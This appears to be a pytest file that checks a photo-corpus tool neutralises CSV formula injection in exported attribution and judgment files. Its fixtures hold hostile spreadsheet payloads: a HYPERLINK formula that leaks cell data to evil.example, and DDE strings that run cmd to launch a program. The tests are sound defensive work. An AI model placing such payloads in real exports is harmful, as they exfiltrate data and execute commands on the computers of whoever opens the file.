"""CSV formula injection (issue #23, item A): hostile titles and owners must not become spreadsheet formulas.

A photo titled ``=HYPERLINK("http://evil/?"&A1,"Click")`` or owned by ``=cmd|' /C calc'!A0`` is written
into ``attribution.csv`` by ``export attribution`` and by the image exports. Every CSV we write must
start no cell with one of OWASP's formula starters (= + - @ TAB CR) unless it carries the ``'`` text
marker, and the original text must be recoverable from the cell.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from photocorpus.learn.evaluate import read_judgments, write_unjudged
from photocorpus.textsafety import (
    CSV_FORMULA_STARTERS,
    csv_safe_cell,
    csv_safe_row,
    restore_csv_cell,
)
from tests.conftest import run_cli

pytestmark = pytest.mark.reliability

# (title, owner) pairs: the two payloads, one per OWASP starter, and an innocent photo.
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted"),
    ("-negative title", "@owner"),
    ("A quiet street", "Jane Doe"),
]
DANGEROUS = tuple(CSV_FORMULA_STARTERS)


def _cells_are_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), f"formula cell reached the CSV: {cell!r}"


@pytest.fixture(scope="module")
def hostile_corpus(tmp_path_factory: pytest.TempPathFactory, instany_images: Path) -> Path:
    """Real photos with hostile CC titles and owners (sidecars), curated so that image exports hold them."""
    root = tmp_path_factory.mktemp("csvinj")
    src = root / "src" / "city"
    src.mkdir(parents=True)
    photos = sorted(instany_images.glob("*.jpg"))[400 : 400 + len(HOSTILE)]
    for (title, owner), photo in zip(HOSTILE, photos, strict=True):
        (src / photo.name).write_bytes(photo.read_bytes())
        meta = {
            "title": title,
            "owner": owner,
            "license": "CC BY 2.0",
            "page_url": f"https://x.test/{photo.stem}",
        }
        (src / f"{photo.stem}.json").write_text(json.dumps(meta), encoding="utf-8")
    corpus = root / "corpus"
    run_cli("init", str(corpus))
    run_cli("import", str(src.parent), "-C", str(corpus), "--quiet", "--workers", "1")
    run_cli("curate", "-C", str(corpus), "--quiet", "--workers", "1", "--no-semantic")
    return corpus


@pytest.mark.parametrize("starter", DANGEROUS)
def test_every_owasp_starter_gets_the_text_marker(starter: str) -> None:
    text = f"{starter}cmd|' /C calc'!A0"
    safe = csv_safe_cell(text)
    assert safe == "'" + text
    assert restore_csv_cell(safe) == text


def test_safe_text_numbers_and_quotes() -> None:
    assert csv_safe_cell("A quiet street") == "A quiet street"
    assert csv_safe_cell(" =1+1") == " =1+1"  # OWASP's rule looks at the first character only
    assert csv_safe_cell("") == "" and csv_safe_cell(None) is None
    # Numbers are ours, not a stranger's text: a negative longitude stays a number.
    assert csv_safe_cell(-73.9) == -73.9 and csv_safe_cell(-3) == -3
    assert csv_safe_row(["-x", -1.5, 7, None]) == ["'-x", -1.5, 7, None]
    # A value that already starts with the marker before a starter round-trips too.
    for text in ("'=x", "''-y", "'", "'plain"):
        assert restore_csv_cell(csv_safe_cell(text)) == text
    # A file re-saved by a spreadsheet (which drops the marker) reads back the same.
    assert restore_csv_cell("=x") == "=x"


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _check_attribution(path: Path) -> None:
    rows = _read(path)
    assert rows[0] == ["source", "source_id", "title", "owner", "license", "source_url", "file"]
    _cells_are_safe(rows)
    restored = {(restore_csv_cell(r[2]), restore_csv_cell(r[3])) for r in rows[1:]}
    # Every hostile title and owner is there, recoverable to the letter.
    assert set(HOSTILE) <= restored
    titles = {r[2] for r in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in titles


def test_export_attribution_neutralises_formulas(hostile_corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "credits"
    run_cli("export", "attribution", str(out), "-C", str(hostile_corpus), "--quiet")
    _check_attribution(out / "attribution.csv")


def test_imagefolder_export_neutralises_formulas(hostile_corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "imagefolder"
    run_cli("export", "imagefolder", str(out), "-C", str(hostile_corpus), "--quiet", "--workers", "1")
    _check_attribution(out / "attribution.csv")


def test_unjudged_template_is_safe_and_reads_back(tmp_path: Path) -> None:
    rows = [
        {"query": "-people sunset", "photo": "-Bx3kQ", "relevant": "", "path": "images/a.jpg"},
        {"query": "=1+1", "photo": "@handle", "relevant": "", "path": "images/b.jpg"},
    ]
    template = tmp_path / "judge.csv"
    write_unjudged(template, rows)
    table = _read(template)
    _cells_are_safe(table)
    # A person judges the rows in a text editor; the markers stay and are removed on reading.
    judged = [[*r[:2], "1" if i else "relevant", *r[3:]] for i, r in enumerate(table)]
    with template.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(judged)
    judgments = read_judgments(template)
    assert set(judgments) == {"-people sunset", "=1+1"}
    # Photo keys are matched lower-cased; the marker is gone from both queries and photos.
    assert judgments == {"-people sunset": {"-bx3kq": True}, "=1+1": {"@handle": True}}
